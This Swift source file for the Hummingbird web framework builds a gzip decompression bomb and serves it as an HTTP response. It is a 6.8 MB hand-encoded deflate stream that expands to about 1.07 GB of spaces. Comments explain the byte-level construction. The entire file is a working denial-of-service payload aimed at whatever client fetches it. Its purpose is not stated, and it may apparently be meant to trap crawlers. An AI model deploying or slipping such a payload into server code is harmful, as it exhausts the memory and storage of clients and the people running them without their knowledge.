import Hummingbird
import NIOCore

/// 6.8 MB of gzip that decompress to 1.07 GB of spaces: one block with deflate's fixed codes, a space, and then "the last 258 bytes
/// again" 4,160,001 times. Eight such commands are 104 bits, so from the fourth byte on the same 13 bytes repeat.
enum GzipBomb {
  static let unpackedBytes = 259 + repeats * 2_064

  static var body: ResponseBody {
    ResponseBody(contentLength: GzipWriter.header.count + start.count + repeats * unit.count + end.count) { writer in
      try await writer.write(ByteBuffer(bytes: GzipWriter.header + start))
      let batch = ByteBuffer(bytes: Array(repeatElement(unit, count: batchSize).joined()))
      for _ in 0..<repeats / batchSize { try await writer.write(batch) }
      try await writer.write(ByteBuffer(bytes: end))
      try await writer.finish(nil)
    }
  }

  // MARK: - Private

  private static let repeats = 520_000
  private static let batchSize = 1_000
  private static let start: [UInt8] = [0x53, 0x18, 0x05]
  private static let unit: [UInt8] = [
    0xa3, 0x60, 0x14, 0x8c, 0x82, 0x51, 0x30, 0x0a, 0x46, 0xc1, 0x28, 0x18, 0x05,
  ]
  /// End of block; then the checksum 0xe8e75058 and the length modulo 2^32, both little-endian.
  private static let end: [UInt8] =
    [0x00, 0x58, 0x50, 0xe7, 0xe8] + (0..<4).map { UInt8(truncatingIfNeeded: unpackedBytes >> ($0 * 8)) }
}
